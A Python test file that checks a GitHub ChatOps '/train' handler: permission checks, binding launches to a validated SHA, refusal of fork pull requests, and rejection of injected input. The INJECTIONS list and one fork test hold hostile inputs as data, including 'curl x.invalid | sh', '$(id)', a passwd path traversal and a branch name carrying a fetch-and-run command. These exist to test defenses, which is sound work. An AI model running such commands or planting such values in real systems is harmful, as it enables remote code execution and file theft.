"""ChatOps, the whole flow through PyGithub against the emulator: permission from the API, SHA
binding, forks, injection attempts, re-validation at the SHA."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from pipelines.github.chatops import (
    handle_event,
)
from pipelines.github.client import PyGithubHost
from pipelines.github.comment import StickyComment
from pipelines.github.events import CommentEvent, PullRequestEvent, PullRequestRef, WorkflowDispatchEvent
from tests.infra.github_emulator import REPO, SHA_A, SHA_B, GitHubEmulator, emulated_repo, emulator_config

EXP = "rope-theta"
INJECTIONS = [
    "/train rope-theta; curl x.invalid | sh",
    "/train $(id)",
    "/train `reboot`",
    "/train ../../etc/passwd",
    "/train rope-theta\u202e",
    "/train ROPE-THETA",
]


# --------------------------------------------------------------------------- through PyGithub


@pytest.fixture
def gh() -> Iterator[GitHubEmulator]:
    with GitHubEmulator() as emulator:
        yield emulator


def _validated(gh: GitHubEmulator, n: int, sha: str = SHA_A) -> None:
    host = PyGithubHost(emulator_config(gh))
    # As the trusted comment workflow does: the validated SHA is the PR's current head.
    StickyComment.for_experiment(host, n, EXP, author=gh.bot_login).upsert("## awaiting /train", {"validated_sha": sha},
                                                                          head_sha=sha)


def _comment(n: int, body: str, author: str = "erin", association: str = "MEMBER", cid: int = 4242) -> CommentEvent:
    return CommentEvent(action="created", comment_id=cid, body=body, author=author, author_association=association,
                        issue_number=n, is_pull_request=True, repo=REPO, sender=author)


def test_writer_launches_on_the_validated_head(gh: GitHubEmulator) -> None:
    n = emulated_repo(gh)
    _validated(gh, n)
    d = handle_event(_comment(n, f"/train {EXP}"), PyGithubHost(emulator_config(gh)), bot_login=gh.bot_login)
    assert (d.action, d.sha, d.experiments) == ("launch", SHA_A, (EXP,))
    assert gh.requests_made("GET", r"/collaborators/erin/permission")


def test_a_newer_push_invalidates_the_pending_train(gh: GitHubEmulator) -> None:
    n = emulated_repo(gh)
    _validated(gh, n)
    gh.push(REPO, n, SHA_B)
    d = handle_event(_comment(n, "/train"), PyGithubHost(emulator_config(gh)), bot_login=gh.bot_login)
    assert d.action == "refuse" and d.sha == ""
    _validated(gh, n, SHA_B)  # the checks passed on the new head
    d = handle_event(_comment(n, "/train", cid=4243), PyGithubHost(emulator_config(gh)), bot_login=gh.bot_login)
    assert d.action == "launch" and d.sha == SHA_B


def test_reader_is_refused_once_even_when_the_job_reruns(gh: GitHubEmulator) -> None:
    n = emulated_repo(gh)
    _validated(gh, n)
    # The payload claims OWNER; the API says read.
    event = _comment(n, "/train", author="frank", association="OWNER")
    host = PyGithubHost(emulator_config(gh))
    assert handle_event(event, host, bot_login=gh.bot_login).action == "refuse"
    assert handle_event(event, host, bot_login=gh.bot_login).action == "refuse"
    # More comments from the same stranger, valid or not: still one reply on the PR, not one per comment.
    assert handle_event(_comment(n, "/train", author="frank", cid=4300), host, bot_login=gh.bot_login).action == "refuse"
    assert handle_event(_comment(n, "/train $(id)", author="frank", cid=4301), host,
                        bot_login=gh.bot_login).action == "refuse"
    replies = [c for c in gh.comments(REPO, n) if "<!-- gitops-train:refused=frank -->" in c["body"]]
    assert len(replies) == 1 and "@frank" in replies[0]["body"] and "write access" in replies[0]["body"]
    assert len([c for c in gh.comments(REPO, n) if c["user"]["login"] == gh.bot_login]) == 2  # sticky + reply


@pytest.mark.parametrize("body", INJECTIONS)
def test_injection_attempts_are_refused_and_never_echoed(gh: GitHubEmulator, body: str) -> None:
    n = emulated_repo(gh)
    _validated(gh, n)
    d = handle_event(_comment(n, body), PyGithubHost(emulator_config(gh)), bot_login=gh.bot_login)
    assert d.action == "refuse"
    argument = body.split(" ", 1)[1]
    for c in gh.comments(REPO, n):
        assert argument not in c["body"]


def test_hostile_title_and_branch_never_reach_replies(gh: GitHubEmulator) -> None:
    gh.add_repo(REPO)
    gh.set_permission(REPO, "erin", "write")
    pr = gh.add_pull(REPO, author="mallory", head_sha=SHA_A, head_repo="mallory/lab",
                     title='x"; echo ::set-output name=launch::true; #', head_ref="$(curl x.invalid|sh)",
                     files=[f"experiments/{EXP}.yaml"])
    d = handle_event(_comment(pr["number"], "/train"), PyGithubHost(emulator_config(gh)), bot_login=gh.bot_login)
    assert d.action == "refuse" and d.reason == "fork pull request"
    (reply,) = gh.comments(REPO, pr["number"])
    assert "set-output" not in reply["body"] and "curl" not in reply["body"]
    assert "workflow" in reply["body"]


def test_maintainer_dispatch_trains_a_fork_at_the_reviewed_sha(gh: GitHubEmulator) -> None:
    n = emulated_repo(gh, head_repo="mallory/lab")
    _validated(gh, n)
    host = PyGithubHost(emulator_config(gh))
    event = WorkflowDispatchEvent(ref="refs/heads/main", inputs={"pr": str(n), "sha": SHA_A}, repo=REPO, sender="mia")
    assert handle_event(event, host, bot_login=gh.bot_login).action == "launch"
    by_writer = WorkflowDispatchEvent(ref="refs/heads/main", inputs={"pr": str(n), "sha": SHA_A}, repo=REPO, sender="erin")
    assert handle_event(by_writer, host, bot_login=gh.bot_login).action == "refuse"


def test_comments_on_issues_bots_and_edits_are_ignored(gh: GitHubEmulator) -> None:
    n = emulated_repo(gh)
    host = PyGithubHost(emulator_config(gh))
    plain = CommentEvent("created", 1, "/train", "erin", "MEMBER", n, False, REPO, "erin")
    bot = CommentEvent("created", 2, "/train", "github-actions[bot]", "NONE", n, True, REPO, "github-actions[bot]")
    edited = CommentEvent("edited", 3, "/train", "erin", "MEMBER", n, True, REPO, "erin")
    for event in (plain, bot, edited):
        assert handle_event(event, host, bot_login=gh.bot_login).action == "ignore"
    assert gh.requests_made() == []


def _labeled(gh: GitHubEmulator, n: int, sender: str, label: str = "train", fork: bool = False) -> PullRequestEvent:
    ref = PullRequestRef(number=n, title="t", body="", author="dana", head_sha=SHA_A, head_ref="exp",
                         head_repo="someone/lab" if fork else REPO, base_repo=REPO, base_ref="main",
                         merged=False, state="open", draft=False, labels=(label,))
    return PullRequestEvent(action="labeled", pull_request=ref, repo=REPO, sender=sender, label=label)


def test_a_train_label_launches_nothing(gh: GitHubEmulator) -> None:
    """Issue 14: no label path (it would run the PR's own copy of the workflow)."""
    n = emulated_repo(gh)
    _validated(gh, n)
    host = PyGithubHost(emulator_config(gh))
    assert handle_event(_labeled(gh, n, "erin"), host, bot_login=gh.bot_login).action == "ignore"


# --------------------------------------------------------------------------- issue 14: rendering, re-validation


def test_train_revalidates_the_experiment_files_at_the_sha(gh: GitHubEmulator) -> None:
    n = emulated_repo(gh)
    _validated(gh, n)
    # The PR's own workflow reported success, but the file at the head does not validate.
    gh.add_tree(REPO, SHA_A, {f"experiments/{EXP}.yaml": b"name: rope-theta\ntrain:\n  lr: -1\n"})
    d = handle_event(_comment(n, "/train"), PyGithubHost(emulator_config(gh)), bot_login=gh.bot_login)
    assert d.action == "refuse" and d.reason == "experiment files do not validate at the head"
    assert any("does not pass `pipeline validate`" in c["body"] for c in gh.comments(REPO, n))
    assert gh.requests_made("GET", rf"/repos/{REPO}/contents/experiments$")


def test_dispatch_without_sha_trains_a_same_repo_pr_at_its_validated_head(gh: GitHubEmulator) -> None:
    n = emulated_repo(gh)
    _validated(gh, n)
    event = WorkflowDispatchEvent(ref="refs/heads/main", inputs={"pr": str(n), "command": "train"}, repo=REPO,
                                  sender="erin")
    d = handle_event(event, PyGithubHost(emulator_config(gh)), bot_login=gh.bot_login)
    assert (d.action, d.sha) == ("launch", SHA_A), d.reason
